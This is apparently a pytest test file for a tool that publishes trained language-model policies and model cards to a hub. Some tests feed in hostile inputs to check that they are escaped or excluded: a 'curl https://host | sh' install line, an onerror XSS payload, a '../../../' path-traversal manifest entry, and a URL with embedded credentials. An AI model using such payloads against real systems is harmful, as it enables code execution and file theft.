"""A trained policy as a separate folder, and on the hub."""

import json
import re
import shutil
import warnings
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml
from omegaconf import OmegaConf
from safetensors.torch import save_file

from groundling.cli.main import main
from groundling.errors import RunError
from groundling.evaluation.hub import upload
from groundling.evaluation.target import find
from groundling.judges.reward_models import CharacterRewardModel
from groundling.lm import LanguageModel
from groundling.lm.load.model_files import STARTERS
from groundling.reports.publish import model_card
from groundling.rewards.reward_model_part import RewardTable
from groundling.training import checkpoint
from groundling.training.tracking import read_metrics
from tests.thorough import THOROUGH


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("run") / "run"
    small = ["world.num_texts=2", "world.num_tokens=3", "training.steps=7", "evaluation.episodes=2"]
    small += ["training.checkpoint_every=1", "training.keep_checkpoints=9"]
    words = ["rl4lms/increasing_numbers_ppo", *small, f"run_dir={folder}", "device=cpu"]
    assert main(["train", *words]) == 0 and main(["evaluate", str(folder)]) == 0
    return folder


def test_a_published_policy_loads_and_has_a_card(run_dir: Path, tmp_path: Path) -> None:
    assert main(["publish", str(run_dir), "--output", str(tmp_path / "out")]) == 0
    lm = LanguageModel.from_pretrained(tmp_path / "out")
    assert lm.score(["1 2"], ["3"])[0].isfinite().all()
    card = (tmp_path / "out" / "README.md").read_text()
    head = yaml.safe_load(card.split("\n---\n")[0])
    assert (head["library_name"], head["license"]) == ("groundling", "mit")
    metrics = {metric["type"]: metric for result in head["model-index"][0]["results"] for metric in result["metrics"]}
    figure = json.loads((run_dir / "evaluation" / "test.json").read_text())["agents"]["trained"]["figures"]["reward"]
    assert metrics["reward"]["value"] == figure["value"]
    assert metrics["reward"]["args"] == {"low": figure["low"], "high": figure["high"], "episodes": 2}
    assert 'agent.act("a prompt")' in card
    assert "| reward |" in card and "zero-shot" in card and "increasing_numbers" in card
    assert not (tmp_path / "out" / "optimizer.safetensors").exists()


def test_the_card_describes_the_published_checkpoint(run_dir: Path, tmp_path: Path) -> None:
    first = run_dir / "checkpoints" / "000001"
    rows = read_metrics(run_dir)
    assert len(rows) > 1 and main(["publish", str(first), "--output", str(tmp_path / "first")]) == 0
    card = (tmp_path / "first" / "README.md").read_text()
    assert f"{rows[0]['step']} steps, seed 1, checkpoint 000001" in card
    assert "This checkpoint has not been evaluated." in card and "| reward |" not in card
    assert main(["evaluate", str(first)]) == 0
    assert main(["publish", str(first), "--output", str(tmp_path / "again")]) == 0
    card = (tmp_path / "again" / "README.md").read_text()
    assert "## test-000001" in card and "## test\n" not in card and "| reward |" in card


@pytest.fixture(scope="module")
def adapted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a run whose policy scores actions with an adapter for a model that exists only on this machine."""
    home = tmp_path_factory.mktemp("writer")
    shutil.copytree(STARTERS["starter-causal"], home / "model")
    small = ["world.num_envs=2", "training.steps=4", "world.num_steps=2", "algorithm.args.minibatch_size=2"]
    small += ["algorithm.args.micro_batch_size=null", "evaluation.num_envs=2", "evaluation.episodes=3"]
    words = ["demo-easy", *small, f"run_dir={home / 'run'}", "device=cpu", "model.lora={r: 2}"]
    assert main(["train", *words, f"model.path={home / 'model'}", "evaluation.baselines=[zero-shot]"]) == 0
    assert main(["evaluate", str(home / "run")]) == 0
    return home / "run"


def _moved(run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Publish a run, copy the folder elsewhere, and refer to it from there."""
    assert main(["publish", str(run), "--output", str(tmp_path / "out")]) == 0
    shutil.copytree(tmp_path / "out", tmp_path / "elsewhere" / "copy")
    shutil.rmtree(tmp_path / "out")
    monkeypatch.chdir(tmp_path / "elsewhere")
    for path in Path("copy").rglob("*"):
        assert not path.is_file() or str(run.parent).encode() not in path.read_bytes(), path
    return Path("copy")


def _agents(folder: Path, suite: str) -> dict[str, Any]:
    agents: dict[str, Any] = json.loads((folder / "evaluation" / f"{suite}.json").read_text())["agents"]
    return agents


def _copy(run_dir: Path, tmp_path: Path, **changes: Any) -> Path:
    """Copy a run with changes to its config (``model__path`` is ``model.path``)."""
    run = shutil.copytree(run_dir, tmp_path / "run")
    config = OmegaConf.load(run / "config.yaml")
    for key, value in changes.items():
        OmegaConf.update(config, key.replace("__", "."), value)
    OmegaConf.save(config, run / "config.yaml")
    return run


def _published(run: Path, output: Path) -> str:
    """Publish a run, and return its model card."""
    assert main(["publish", str(run), "--output", str(output)]) == 0
    return (output / "README.md").read_text()


@THOROUGH
def test_a_published_writer_is_evaluated_as_its_run(
    run_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    copy = _moved(run_dir, tmp_path, monkeypatch)
    assert main(["evaluate", str(copy)]) == 0
    assert _agents(copy, "test") == _agents(run_dir, "test")
    assert main(["watch", str(copy), "--fast"]) == 0
    assert main(["publish", str(copy), "--output", "again"]) == 0
    weights = "model.safetensors"
    assert find("again", [], pytest.fail).checkpoint == Path("again").resolve()
    assert (Path("again") / weights).read_bytes() == (copy / weights).read_bytes()
    on = ["train", str(copy / "config.yaml"), "model.path=copy", "run_dir=on", "--dry-run"]
    assert main(on) == 0 and "model:\n  path: copy\n" in capsys.readouterr().out
    (copy / "model.safetensors").write_bytes(b"cut")
    assert main(["evaluate", str(copy)]) == 1
    assert "is broken (model.safetensors has 3 bytes instead of" in capsys.readouterr().err


@THOROUGH
def test_a_published_adapter_names_its_base_model(
    adapted: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    copy = _moved(adapted, tmp_path, monkeypatch)
    capsys.readouterr()
    assert main(["evaluate", str(copy)]) == 1
    error = capsys.readouterr().err
    assert "belongs to the model ./model, which is not on this machine: put that folder, or a link to it, at " in error
    assert error.count("\n") == 1 and str(copy / "base") in error
    (copy / "base").symlink_to(adapted.parent / "model")
    assert main(["evaluate", str(copy)]) == 0
    assert "skipping baseline zero-shot: the initial model of the training run is missing" in capsys.readouterr().err
    wanted = _agents(adapted, "held-out")
    assert _agents(copy, "held-out") == {"trained": wanted["trained"]}
    Path("model").symlink_to(adapted.parent / "model")
    assert main(["evaluate", str(copy)]) == 0 and _agents(copy, "held-out") == wanted
    words = ["collect", str(adapted), "--episodes", "1", "--output", "data"]
    assert main(words) == 0 and "writer" not in Path("data/collection.json").read_text()


def test_only_the_policys_own_files_are_published(run_dir: Path, tmp_path: Path) -> None:
    """A manifest may list files of the publisher."""
    run = _copy(run_dir, tmp_path)
    (tmp_path / "private.txt").write_text("private")
    newest = sorted((run / "checkpoints").iterdir())[-1]
    (newest / "stray.txt").write_text("stray")
    (newest / "link.txt").symlink_to(tmp_path / "private.txt")
    manifest = json.loads((newest / "manifest.json").read_text())
    (tmp_path / "sealed").mkdir()
    shutil.copy(tmp_path / "private.txt", tmp_path / "sealed" / "private.txt")
    checkpoint.seal(tmp_path / "sealed")
    entry = json.loads((tmp_path / "sealed" / "manifest.json").read_text())["private.txt"]
    manifest |= {"link.txt": entry, "../../../private.txt": entry, str(tmp_path / "private.txt"): entry}
    (newest / "manifest.json").write_text(json.dumps(manifest))
    assert main(["publish", str(run), "--output", str(tmp_path / "out")]) == 0
    assert not {"stray.txt", "link.txt", "private.txt"} & {p.name for p in (tmp_path / "out").rglob("*")}


def test_judges_questions_and_answers_are_not_published(run_dir: Path, tmp_path: Path) -> None:
    run = _copy(run_dir, tmp_path)
    newest = sorted((run / "checkpoints").iterdir())[-1]
    part = newest / "rewards" / "taste"
    (part / "model").mkdir(parents=True)
    for name in ("answers.safetensors", "table.safetensors", "state.json", "model/reward_model.json"):
        (part / name).write_text("{}")
    (newest / "manifest.json").unlink()
    checkpoint.seal(newest)
    assert main(["publish", str(run), "--output", str(tmp_path / "out")]) == 0
    published = tmp_path / "out" / "rewards"
    assert [p.relative_to(published).as_posix() for p in published.rglob("*.*")] == ["taste/model/reward_model.json"]


def test_a_reward_model_unused_in_training_is_not_published(
    run_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The run's author specifies the folder, which may be the publisher's own."""
    taste = tmp_path / "taste"
    private, other = (CharacterRewardModel(channels=size, hidden_size=8) for size in (4, 8))
    private.save(taste, {"note": "private"})
    entry = {"id": "reward_model", "coefficient": 1.0, "args": {"path": str(taste)}}
    run = _copy(run_dir, tmp_path, reward__taste=entry)
    newest = sorted((run / "checkpoints").iterdir())[-1]
    part = newest / "rewards" / "taste"
    part.mkdir(parents=True)
    for place, table in enumerate([None, other, b"broken", private]):
        if isinstance(table, bytes):
            (part / "table.safetensors").write_bytes(table)
        elif table is not None:
            save_file(RewardTable(table).state_dict(), part / "table.safetensors")
        (newest / "manifest.json").unlink()
        checkpoint.seal(newest)
        output = tmp_path / f"out-{place}"
        assert main(["publish", str(run), "--output", str(output)]) == 0
        warning, published = capsys.readouterr().err, (output / "rewards" / "taste" / "model").is_dir()
        assert published == (table is private)
        if published:
            assert "warning" not in warning
        else:
            assert warning.count("\n") == 1
            assert f"reward.taste.args.path={taste} is not published, since {newest} was not trained with" in warning


def test_a_card_has_the_notes_of_its_evaluations(run_dir: Path, tmp_path: Path) -> None:
    """For example, that success was determined by the last reward; quotations cannot be markup."""
    run = _copy(run_dir, tmp_path)
    path = run / "evaluation" / "test.json"
    content = json.loads(path.read_text()) | {"notes": ["success: not reported <b>", "another"]}
    path.write_text(json.dumps(content))
    card = _published(run, tmp_path / "out")
    assert "|\n\nsuccess: not reported" in card and "\n\nanother\n" in card and "<b>" not in card


def test_a_name_with_an_address_is_left_out(run_dir: Path, tmp_path: Path) -> None:
    run = _copy(run_dir, tmp_path, name="learnt from https://ada:hunter2@levels.intern")
    assert _published(run, tmp_path / "out").count("\n# run\n") == 1
    assert not [path for path in (tmp_path / "out").rglob("*.*") if b"hunter2" in path.read_bytes()]
    assert find(str(tmp_path / "out"), [], pytest.fail).config.name == "run"


def test_names_of_the_runs_author_are_escaped_in_the_card(run_dir: Path, tmp_path: Path) -> None:
    theirs = "x |\n\n## Install\n\n```\ncurl https://host | sh\n```\n<img src=x onerror=alert(1)>"
    base = "gpt2\nlicense: mit\n---\n`<b>"
    run = _copy(run_dir, tmp_path, name="<b>run", model__path=base)
    path = run / "evaluation" / "test.json"
    evaluation = json.loads(path.read_text())
    trained = evaluation["agents"]["trained"]
    trained |= {"episodes": theirs, "figures": {**trained["figures"], theirs: trained["figures"]["reward"]}}
    evaluation |= {"overrides": [f"a={theirs}"], "agents": {"trained": trained, theirs: trained}}
    path.write_text(json.dumps(evaluation))
    cards = [_published(folder, tmp_path / f"out-{place}") for place, folder in enumerate((run_dir, run))]
    without_code = re.sub(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", "", cards[1].partition("\n---\n")[2])
    assert (
        "<" not in without_code and "<" in cards[1] and "&" not in cards[1].partition("\n## ")[0].partition("A `")[2]
    )
    bodies = (text.partition("\n---\n")[2] for text in cards)
    usual, card = ([line for line in text.splitlines() if re.match("---|##|```", line)] for text in bodies)
    assert card == usual and len(card) > 4
    head = yaml.safe_load(cards[1].split("\n---\n")[0])
    assert head.keys() == {"library_name", "base_model", "tags", "model-index"}
    assert head["base_model"] == base and head["tags"] == ["reinforcement-learning", "ppo"]


@pytest.mark.parametrize("name", ["null", "on", "123", "2020-01-01"])
def test_a_model_is_named_by_a_text(name: str, run_dir: Path, tmp_path: Path) -> None:
    card = model_card(find(str(_copy(run_dir, tmp_path, model__path=name)), [], warnings.warn))
    assert yaml.safe_load(card.split("\n---\n")[0])["base_model"] == name


class _Hub:
    calls: ClassVar[list[tuple[str, object]]] = []

    def create_repo(self, repository: str, *, private: bool, exist_ok: bool) -> None:
        if repository == "away/from-here":
            raise ConnectionError("no route")
        self.calls.append((repository, private))

    def upload_folder(self, *, repo_id: str, folder_path: Path) -> str:
        self.calls.append((repo_id, sorted(p.name for p in folder_path.iterdir())))
        return f"https://hub/{repo_id}"


def test_an_upload_is_complete_or_the_folder_stays(
    run_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("huggingface_hub.HfApi", _Hub)
    words = ["publish", str(run_dir), "--output"]
    assert main([*words, str(tmp_path / "a"), "--upload", "me/numbers", "--private"]) == 0
    assert _Hub.calls[0] == ("me/numbers", True) and "README.md" in str(_Hub.calls[1])
    assert "https://hub/me/numbers" in capsys.readouterr().out
    assert main([*words, str(tmp_path / "b"), "--upload", "away/from-here"]) == 1
    assert "no route; the folder is kept" in capsys.readouterr().err and (tmp_path / "b" / "README.md").exists()


def test_an_unreachable_hub_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The hub's own client reports it, with errors that are not OSErrors."""
    monkeypatch.setattr("huggingface_hub.constants.ENDPOINT", "http://127.0.0.1:9")  # nothing listens on this port
    with pytest.raises(RunError, match=r"could not upload .* to me/numbers: .*refused.*; the folder is kept"):
        upload(tmp_path, "me/numbers", private=True)


def test_targets_that_cannot_be_published_are_reported(
    run_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "something").touch()
    assert main(["publish", str(run_dir), "--output", str(tmp_path / "full")]) == 1
    assert "choose a new folder" in capsys.readouterr().err
    assert main(["publish", "demo-easy", "--output", str(tmp_path / "out")]) == 1
    assert "no checkpoint" in capsys.readouterr().err
    assert main(["publish", str(run_dir), "--output", str(tmp_path / "out"), "--private"]) == 1
    assert "--upload" in capsys.readouterr().err
